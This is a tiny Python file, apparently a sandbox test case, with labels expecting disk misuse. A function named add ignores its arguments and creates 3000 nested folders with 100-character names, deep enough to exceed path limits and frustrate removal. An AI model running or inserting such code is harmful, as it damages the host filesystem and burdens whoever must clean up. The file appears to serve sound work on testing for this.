"""Makes folders in folders, too deep for a path, for the one who must remove them.

Expect: output.never-written | run.disk
Assignment: small
"""
import os


def add(a, b, c):
    for _ in range(3000):
        os.mkdir("d" * 100)
        os.chdir("d" * 100)
